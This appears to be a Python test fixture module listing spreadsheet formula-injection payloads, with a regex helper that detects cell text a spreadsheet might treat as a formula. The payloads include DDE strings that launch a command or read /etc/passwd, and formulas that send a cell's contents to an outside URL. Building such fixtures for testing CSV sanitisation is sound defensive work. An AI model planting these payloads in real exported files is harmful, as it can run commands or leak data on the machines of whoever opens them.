"""Texts by which a spreadsheet program may be made to work something out, or that it may take for something else."""

import re

_LONG = 40_000  # characters; no cell holds as many

PAYLOADS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?x="&A1,"look")',
    '=IMPORTXML(CONCAT("https://example.com/",A1),"//a")',
    '=WEBSERVICE("https://example.com/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    '=DDE("soffice","\'file:///etc/passwd\'#$x.A1")',
    '=INDIRECT("A1")',
    "=A1",
    "=SUM(1,1)",
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "Li\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝１＋１",
    "＋１＋１",
    "－１＋１",
    "＠SUM(1,1)",
    '"=1+1"',
    '"\n=1+1',
    "'=1+1",
    ";=1+1",
    "Li,=1+1",
    "@echo off",
    "%0A=1+1",
    "_x003D_1+1",
    "=1+1\x01\x1b",
    "\u202e1+1=",
    "=1+" + "1" * _LONG,
)
"""What stands in the cell; none of them is a number or a day by itself."""

_MAY_BE_A_FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")


def may_be_a_formula(text: str) -> bool:
    """Whether some program may take a text in a csv file for a formula; full-width signs begin one as well."""
    return _MAY_BE_A_FORMULA.match(text) is not None
